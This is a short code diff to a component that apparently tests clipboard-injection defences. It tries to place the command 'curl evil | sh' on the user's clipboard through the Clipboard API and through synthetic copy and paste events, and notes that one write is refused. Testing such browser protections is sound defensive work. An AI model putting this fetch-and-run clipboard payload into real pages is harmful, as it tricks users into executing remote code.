@@ -205,7 +205,11 @@ export default function Copy() {
           // CN1, CN2 of #47: the Clipboard API inside the click, and copy events made by code.
           navigator.clipboard.writeText('curl evil | sh').catch(() => undefined);
           const data = new DataTransfer();
-          data.setData('text/plain', 'curl evil | sh');
+          try {
+            data.setData('text/plain', 'curl evil | sh');
+          } catch {
+            // Refused (CN3): code cannot write a DataTransfer's data; the events go out empty.
+          }
           document.dispatchEvent(new ClipboardEvent('copy', {clipboardData: data}));
           document.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data}));
           console.log('tried');
